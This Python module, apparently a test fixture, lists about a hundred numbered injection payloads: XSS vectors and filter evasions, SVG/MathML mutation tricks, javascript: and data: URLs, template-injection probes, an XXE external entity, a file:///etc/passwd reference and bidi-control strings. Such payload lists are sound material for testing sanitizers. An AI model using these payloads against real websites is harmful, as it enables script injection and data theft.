"""A hundred texts that want to be more than text: KG is a token of each, WEB an address that listens."""

_SCRIPTS = (
    "<script>alert('KG')</script>",
    "<SCRIPT SRC=WEB/KG.js></SCRIPT>",
    "<scr<script>ipt>alert('KG')</scr</script>ipt>",
    "<script\n>alert('KG')</script\n>",
    "<scr\0ipt>alert('KG')</scr\0ipt>",
    "</title><script>alert('KG')</script>",
    "--><script>alert('KG')</script><!--",
    "]]><script>alert('KG')</script><![CDATA[",
    "</textarea><script>alert('KG')</script>",
    "</style><script>alert('KG')</script>",
    "</noscript><script>alert('KG')</script>",
    "';alert('KG');//",
    '";alert("KG");//',
    "`;alert('KG');//",
    "${alert('KG')}",
    "\\u003cscript\\u003ealert('KG')\\u003c/script\\u003e",
    "<script type=module>import 'WEB/KG'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('KG')>\">",
)
_HANDLERS = (
    "<img src=x onerror=alert('KG')>",
    "<img src=WEB/KG.png>",
    "<img/src=x/onerror=alert('KG')>",
    "<img src=`x`onerror=alert('KG')>",
    '<IMG """><SCRIPT>alert("KG")</SCRIPT>">',
    "<body onload=alert('KG')>",
    "<input autofocus onfocus=alert('KG')>",
    "<details open ontoggle=alert('KG')>",
    "<video><source onerror=alert('KG')></video>",
    "<audio src=WEB/KG onerror=alert('KG')>",
    "<marquee onstart=alert('KG')>",
    "\" onmouseover=alert('KG') x=\"",
    "' onfocus=alert('KG') autofocus x='",
    "\" autofocus onfocus=alert('KG') tabindex=1 x=\"",
    "x onclick=alert('KG') y",
    "<a onclick=alert('KG')>press</a>",
    "<select onfocus=alert('KG') autofocus>",
)
_EMBEDDED = (
    "<iframe src=WEB/KG></iframe>",
    "<iframe srcdoc=\"<script>alert('KG')</script>\"></iframe>",
    "<object data=WEB/KG></object>",
    "<embed src=WEB/KG>",
    "<base href=WEB/KG/>",
    "<link rel=stylesheet href=WEB/KG.css>",
    "<link rel=prefetch href=WEB/KG>",
    "<meta http-equiv=refresh content='0;url=WEB/KG'>",
    "<form action=WEB/KG><input name=q></form>",
    "<button formaction=javascript:alert('KG')>KG</button>",
    "<frameset onload=alert('KG')>",
    "<template><img src=x onerror=alert('KG')></template>",
    "<portal src=WEB/KG></portal>",
    "<dialog open>KG</dialog>",
)
_DRAWN = (
    "<svg onload=alert('KG')>",
    "<svg><script>alert('KG')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('KG')\"><text>KG</text></a></svg>",
    "<svg><use href=WEB/KG#x></use></svg>",
    "<svg><image href=WEB/KG></image></svg>",
    "<svg><animate onbegin=alert('KG') attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert('KG')></svg>",
    "<svg><foreignObject><iframe src=WEB/KG></iframe></foreignObject></svg>",
    "</svg><img src=x onerror=alert('KG')>",
    "</title></desc></g></svg><script>alert('KG')</script>",
    "<math><mtext><img src=x onerror=alert('KG')></mtext></math>",
    "<math href=\"javascript:alert('KG')\">KG</math>",
    "<math><style><img src=x onerror=alert('KG')></style></math>",
)
_STYLED = (
    "<style>@import 'WEB/KG';</style>",
    "<style>*{display:none}</style> KG",
    '<div style="background:url(WEB/KG)">KG</div>',
    '" style="position:fixed;inset:0;background:url(WEB/KG)" x="',
    "</style><style>body{background:url(WEB/KG)}</style>",
    "<p style=width:expression(alert('KG'))>KG",
    "KG { } * { color: transparent }",
)
_ADDRESSES = (
    "javascript:alert('KG')",
    "JaVaScRiPt:alert('KG')",
    "java\tscript:alert('KG')",
    "data:text/html,<script>alert('KG')</script>",
    "vbscript:msgbox('KG')",
    "//127.0.0.1/KG",
    "[KG](javascript:alert('KG'))",
    "![KG](WEB/KG.png)",
    "<a href=\"javascript:alert('KG')\">KG</a>",
    "<a href=\"data:text/html,<script>alert('KG')</script>\">KG</a>",
    "file:///etc/passwd?KG",
)
_TEMPLATES = (
    "{{7*7}}KG",
    "{{ config }} KG",
    "{% for x in y %}KG{% endfor %}",
    "{# KG #}",
    "${7*7}KG",
    "#{7*7}KG",
    "<%= 7*7 %>KG",
    "%(KG)s {0} {KG}",
    "{{ ''.__class__.__mro__ }}KG",
)
_ENTITIES = (
    "&lt;script&gt;alert('KG')&lt;/script&gt;",
    "&#60;script&#62;alert('KG')&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert('KG')&amp;gt;",
    "&KG; &ampKG &notinKG",
    "<!ENTITY x SYSTEM 'WEB/KG'>&x;",
    "<?xml version='1.0'?><KG/>",
)
_SIGNS = (
    "\u202eKG reversed\u202c",
    "\u2066\u202eKG\u2069 unbalanced \u2069\u2069",
    "كتائب KG حزب الله",
    "KG" + "w" * 300,
    "KG 💣\U0001f1ee\U0001f1f6👩‍👩‍👧‍👦",
)
PAYLOADS: tuple[str, ...] = tuple(
    payload.replace("KG", f"kg{number:03}")
    for number, payload in enumerate(
        (*_SCRIPTS, *_HANDLERS, *_EMBEDDED, *_DRAWN, *_STYLED, *_ADDRESSES, *_TEMPLATES, *_ENTITIES, *_SIGNS)
    )
)
